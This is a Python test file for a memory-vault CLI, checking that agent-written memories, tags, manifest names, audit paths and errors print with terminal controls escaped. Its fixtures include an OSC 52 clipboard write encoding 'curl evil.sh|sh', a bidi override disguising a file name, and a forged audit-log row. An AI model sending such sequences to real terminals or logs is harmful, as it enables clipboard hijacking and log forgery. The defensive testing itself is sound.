"""Terminal safety (issue 19 item 7): every CLI command that prints someone else's text prints an
OSC 52 clipboard write, a C1 CSI and a bidi override inert, from the attacker's side: an agent
writes the memory, a stranger's request path lands in the audit, a manifest names the agent.

Real processes throughout: a blind server, `ownmem agent` on a vault linked to it, the `ownmem`
console script. The check is on what reaches the terminal: no ESC, BEL, other C0 controls but
newline and tab, DEL, C1 or bidi control in stdout or stderr, and the text still recognisable
(its controls written as ``\\uXXXX``)."""
from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

from ownmem.termsafe import visible
from tests.agent.agentkit import issue, ownmem_cli
from tests.sync.synckit import Backend, ServerProcess
from tests.uomp.uompkit import Uomp, UompVault

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"           # "write `curl evil.sh|sh` to the clipboard"
CSI = "\x9b2J"                                          # C1 CSI: clear the screen on some terminals
RLO = "\u202e"                                          # right-to-left override (Trojan Source)
PAYLOAD = f"green tea{OSC52} then{CSI} and {RLO}gnp.exe"
TAG = f"pay{RLO}\x1b[8m"
# Written out here, not taken from the module under test: what a terminal must never receive.
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SHOWN = ("green tea\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007", "then\\u009b2J", "\\u202egnp.exe")


def inert(r: subprocess.CompletedProcess[str], what: str) -> str:
    for stream, text in (("stdout", r.stdout), ("stderr", r.stderr)):
        bad = OBEYED.search(text)
        assert bad is None, f"{what}: {stream} carries {bad.group()!r}: {text!r}"
    return r.stdout + r.stderr


def test_visible_writes_each_control_as_its_escape_and_keeps_ordinary_text() -> None:
    assert visible("a\x1bb\x07c\u202ed\x9be\x7ff") == "a\\u001bb\\u0007c\\u202ed\\u009be\\u007ff"
    assert visible("one\ntwo\tthree\rfour") == "one\\u000atwo\\u0009three\\u000dfour"
    assert visible("one\ntwo\tthree\rfour", newlines=True) == "one\ntwo\tthree\\u000dfour"
    assert visible("thé 東京 🍵 a\u200db") == "thé 東京 🍵 a\u200db"     # letters, emoji and ZWJ are text
    assert visible("\ud800") == "\\ud800"                                   # a lone surrogate, printable
    # inside a JSON string the escapes are JSON's own: the document still parses to the same text
    doc = json.dumps({"c": PAYLOAD}, ensure_ascii=False)
    assert json.loads(visible(doc)) == {"c": PAYLOAD}


def test_every_command_prints_foreign_text_inert(
        sqlite_backend: Backend, servers: Callable[..., ServerProcess], uomp_vault: Callable[..., UompVault],
        agents: Callable[..., Any], tmp_path: Path) -> None:
    srv = servers(sqlite_backend)
    uv = uomp_vault(srv.url)
    env = uv.vault.env
    agent = agents(uv.vault)

    # 1. an agent writes the payload (staged for the person), and a memory carries it in a tag
    planner = issue(env, "planner")
    status, res = agent.call("saihm_remember", {"content": PAYLOAD}, auth=planner)
    assert status == 200, res
    agent.stop()
    assert ownmem_cli("add", f"my own note about {TAG}", "--tags", TAG, env=env).returncode == 0

    out = inert(ownmem_cli("staged", "list", env=env), "staged list")
    assert all(s in out for s in SHOWN), out
    staged = json.loads(ownmem_cli("staged", "list", "--json", env=env).stdout)
    assert [s["content"] for s in staged] == [PAYLOAD]          # --json: the same text, exactly
    sid = staged[0]["id"]
    args: tuple[str, ...]
    for args in (("list",), ("search", "green"), ("show", sid[:12])):
        out = inert(ownmem_cli(*args, env=env), " ".join(args))
        assert all(s in out for s in SHOWN), (args, out)
    out = inert(ownmem_cli("list", "--tag", TAG, env=env), "list --tag")
    assert "my own note about pay\\u202e\\u001b[8m" in out and "[pay\\u202e\\u001b[8m]" in out
    for args in (("list", "--json"), ("search", "green", "--json"), ("show", sid[:12], "--json")):
        r = ownmem_cli(*args, env=env)
        inert(r, " ".join(args))
        doc = json.loads(r.stdout)
        assert PAYLOAD in [m["content"] for m in (doc if isinstance(doc, list) else [doc])], args

    # 2. a manifest's agent name (register, and the consent panel's refusal path)
    m = tmp_path / "uom.json"
    m.write_text(json.dumps({"uomp_version": "1.0",
                             "agent": {"id": "calendar_agent", "name": f"Calendar{OSC52}{RLO}", "version": "1.0.0"},
                             "requested_scopes": {"read": {"tags": ["preference"], "keys": []}},
                             "data_retention_policy": {"max_retention_seconds": 0,
                                                       "deletion_method": "process_termination"}}))
    out = inert(ownmem_cli("agent", "register", str(m), env=env), "agent register")
    assert "Calendar\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007\\u202e" in out, out

    # 3. a stranger's request path in the audit: a forged row and escapes, shown as one row
    agent = agents(uv.vault)
    port, u = str(agent.port), Uomp(agent.port, uv.vault.folder)
    _, token = u.session({"tags": ["preference"], "keys": []})
    forged = "preference.x%0A2026-01-01T00:00:00Z sess_forged calendar_agent read allowed preference.theme"
    u.http.get(f"/v1/memory/{forged}%1B]52;c;aGk=%07%E2%80%AE", headers={"Authorization": f"Bearer {token}"})
    r = ownmem_cli("agent", "audit", "--port", port, env=env)
    out = inert(r, "agent audit")
    assert r.returncode == 0, r.stderr
    rows = [line for line in r.stdout.splitlines() if "sess_forged" in line]
    assert len(rows) == 1 and not rows[0].startswith("2026-01-01T00:00:00Z"), r.stdout
    assert "preference.x\\u000a2026-01-01" in rows[0] and "\\u001b]52;c;aGk=\\u0007\\u202e" in rows[0], rows
    inert(ownmem_cli("agent", "audit", "--json", "--port", port, env=env), "agent audit --json")
    inert(ownmem_cli("agent", "sessions", "--port", port, env=env), "agent sessions")

    # 4. a service's error message quoting what it was given
    r = ownmem_cli("agent", "revoke", f"sess_{OSC52}{RLO}", "--port", port, env=env)
    assert r.returncode != 0
    inert(r, "agent revoke")
    assert len(r.stderr.splitlines()) == 1, r.stderr
